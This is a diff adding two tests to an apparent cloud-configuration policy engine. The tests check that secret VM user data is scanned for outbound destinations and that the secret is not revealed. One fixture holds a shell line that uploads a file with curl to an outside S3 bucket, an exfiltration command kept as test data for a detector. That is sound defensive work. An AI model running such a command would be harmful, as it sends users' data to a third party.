@@ -233,3 +233,21 @@ def test_an_advice_is_given_once_and_a_violation_every_time(engine: Engine) -> N
     told = [{found.policyName for found in answer.diagnostics} for answer in answers]
     assert "RMP-LAW-003" in told[0] - told[1]
     assert "RMP-LOC-001" in told[0] & told[1]
+
+
+def test_user_data_that_the_provider_marks_as_secret_is_searched_and_not_shown(engine: Engine) -> None:
+    engine.with_provider("outscale", OUTSCALE)
+    text = "#!/bin/sh\nTOKEN=hunter2\ncurl -T records https://s3.amazonaws.com/hunter2\n"
+
+    stopped = engine.analyze("outscale:index/vm:Vm", {"imageId": "ami-1", "userData": secret(text)})
+
+    assert "s3.amazonaws.com" in stopped["RMP-DST-001"]
+    assert "hunter2" not in str(stopped)
+
+
+def test_user_data_that_leads_nowhere_stops_nothing_for_being_secret(engine: Engine) -> None:
+    engine.with_provider("outscale", OUTSCALE)
+
+    stopped = engine.analyze("outscale:index/vm:Vm", {"imageId": "ami-1", "userData": secret("#!/bin/sh\ntrue\n")})
+
+    assert "RMP-DST-001" not in stopped
